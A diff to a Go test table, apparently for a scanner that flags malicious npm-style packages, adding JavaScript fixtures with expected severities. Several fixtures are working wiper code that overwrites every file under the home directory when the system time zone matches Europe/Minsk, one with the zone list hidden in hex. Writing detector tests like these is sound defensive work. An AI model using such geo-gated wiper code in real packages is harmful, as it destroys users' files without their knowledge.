@@ -29,6 +29,13 @@ https.get("https://api.ipgeolocation.io/ipgeo", r => { let b = ""; r.on("data", 
 		{"overwrite_walk_time_zone", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
 function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
 if (["Europe/Minsk"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) walk(os.homedir())`}, finding.SeverityCritical},
+		// the zones kept in hex; a date library reading the zone is no gate
+		{"overwrite_walk_hex_zone", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"); const unhex = h => Buffer.from(h, "hex").toString();
+function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
+if (zones.map(unhex).includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) walk(os.homedir())`}, finding.SeverityCritical},
+		{"backup_walk_zone_no_hex", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"); const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p + ".meta", tz) } }
+walk(os.homedir())`}, finding.SeverityNone},
 		// a dotfiles tool walking home and writing, with no gate
 		{"dotfiles_sync", map[string]string{"cli.js": `const fs = require("fs"), os = require("os"), path = require("path"); for (const f of fs.readdirSync(os.homedir())) if (f.startsWith(".")) fs.writeFileSync(path.join(backup, f), fs.readFileSync(path.join(os.homedir(), f)))`}, finding.SeverityNone},
 		// the home directory itself from library code, or behind a date
